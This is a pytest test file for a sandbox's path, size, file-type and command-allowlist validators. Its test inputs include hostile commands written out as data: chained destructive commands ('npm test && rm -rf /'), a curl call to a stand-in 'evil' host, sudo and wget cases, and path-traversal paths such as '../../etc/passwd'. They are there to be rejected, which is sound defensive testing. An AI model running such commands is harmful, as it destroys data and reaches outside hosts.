"""
Tests for the security sandbox validators.
"""

import os

import pytest

from security import SecurityPolicy, is_text_file, validate_command, validate_path, validate_size


@pytest.fixture
def strict_policy(tmp_path):
    return SecurityPolicy(
        workspace_root=str(tmp_path),
        allowed_commands=["dotnet", "npm", "pytest", "python -m pytest"],
        max_file_bytes=10 * 1024 * 1024,
        denied_directories=["/etc", "/sys", "/proc", "/dev", "/root"],
    )


def test_relative_path_resolves_under_workspace(strict_policy, tmp_path):
    result = validate_path("Api/Program.cs", strict_policy)
    assert result.ok
    assert result.value == os.path.join(str(tmp_path), "Api", "Program.cs")


def test_absolute_path_inside_workspace_is_allowed(strict_policy, tmp_path):
    target = os.path.join(str(tmp_path), "Api", "x.cs")
    assert validate_path(target, strict_policy).ok


@pytest.mark.parametrize("path", ["../outside.txt", "Api/../../etc/passwd", "Api\\..\\secret"])
def test_parent_segments_are_refused(strict_policy, path):
    result = validate_path(path, strict_policy)
    assert not result.ok
    assert "traversal" in result.reason


def test_parent_segment_refused_even_when_it_stays_inside(strict_policy):
    assert not validate_path("Api/../Web/index.js", strict_policy).ok


def test_absolute_path_outside_workspace_is_refused(strict_policy):
    result = validate_path("/etc/passwd", strict_policy)
    assert not result.ok


def test_empty_path_is_refused(strict_policy):
    assert not validate_path("", strict_policy).ok
    assert not validate_path("   ", strict_policy).ok


def test_denied_directory_inside_workspace(tmp_path):
    policy = SecurityPolicy(
        workspace_root=str(tmp_path),
        denied_directories=[str(tmp_path / "secrets")],
    )
    assert not validate_path("secrets/key.pem", policy).ok
    assert validate_path("Api/key.pem", policy).ok


def test_denied_ancestor_of_workspace_does_not_block_it():
    policy = SecurityPolicy(workspace_root="/root/workspace", denied_directories=["/root"])
    assert validate_path("Api/Program.cs", policy).ok


def test_validate_path_is_deterministic(strict_policy):
    first = validate_path("Web/src/app.ts", strict_policy)
    second = validate_path("Web/src/app.ts", strict_policy)
    assert first == second


def test_size_limit(strict_policy):
    assert validate_size(1024, strict_policy).ok
    assert validate_size(10 * 1024 * 1024, strict_policy).ok
    over = validate_size(10 * 1024 * 1024 + 1, strict_policy)
    assert not over.ok
    assert "10 MB" in over.reason


@pytest.mark.parametrize("path,expected", [
    ("src/app.py", True),
    ("Program.cs", True),
    ("Makefile", True),
    ("lib/native.DLL", False),
    ("assets/logo.png", False),
    ("archive.tar", False),
    ("video.MP4", False),
])
def test_is_text_file(path, expected):
    assert is_text_file(path) is expected


@pytest.mark.parametrize("command", [
    "dotnet build",
    "dotnet test --no-restore",
    "npm test",
    "npm",
    "pytest -q",
    "python -m pytest tests/",
    "DOTNET build",
])
def test_whitelisted_commands_pass(strict_policy, command):
    assert validate_command(command, strict_policy).ok


@pytest.mark.parametrize("command", [
    "python script.py",
    "dotnetx build",
    "ls -la",
    "git status",
])
def test_commands_outside_whitelist_are_refused(strict_policy, command):
    result = validate_command(command, strict_policy)
    assert not result.ok
    assert "allowed list" in result.reason


@pytest.mark.parametrize("command", [
    "npm test && rm -rf /",
    "dotnet build; curl http://evil",
    "npm test | tee out.txt",
    "pytest || true",
    "npm run format",
    "dotnet build rm -rf bin",
    "npm install wget",
    "sudo npm install",
    "npm test rm -rfv dist",
    "npm run sudoedit",
    "dotnet reformat",
])
def test_dangerous_patterns_win_over_whitelist(strict_policy, command):
    result = validate_command(command, strict_policy)
    assert not result.ok
    assert "blocked pattern" in result.reason


def test_pattern_matching_uses_word_boundaries(strict_policy):
    # "format" must end a word; "information" continues past it
    assert validate_command("dotnet run --information", strict_policy).ok


def test_empty_command_is_refused(strict_policy):
    assert not validate_command("", strict_policy).ok
    assert not validate_command("   ", strict_policy).ok


def test_multi_word_whitelist_entry():
    policy = SecurityPolicy(workspace_root="/srv/ws", allowed_commands=["dotnet test"])
    assert validate_command("dotnet test", policy).ok
    assert validate_command("dotnet test --filter X", policy).ok
    assert not validate_command("dotnet build", policy).ok
    assert not validate_command("dotnet test; rm -rf /", policy).ok


def test_symlink_to_outside_is_refused(tmp_path):
    workspace = tmp_path / "ws"
    (workspace / "Api").mkdir(parents=True)
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    (workspace / "Api" / "link.txt").symlink_to(secret)
    (workspace / "Api" / "outside").symlink_to(tmp_path, target_is_directory=True)
    policy = SecurityPolicy(workspace_root=str(workspace))

    assert not validate_path("Api/link.txt", policy).ok
    assert not validate_path("Api/outside/secret.txt", policy).ok
    assert not validate_path("Api/outside/new.txt", policy).ok


def test_symlink_inside_workspace_is_allowed(tmp_path):
    (tmp_path / "Api").mkdir()
    (tmp_path / "Api" / "real.txt").write_text("ok")
    (tmp_path / "Api" / "alias.txt").symlink_to(tmp_path / "Api" / "real.txt")
    policy = SecurityPolicy(workspace_root=str(tmp_path))
    result = validate_path("Api/alias.txt", policy)
    assert result.ok
    assert result.value == os.path.join(str(tmp_path), "Api", "alias.txt")
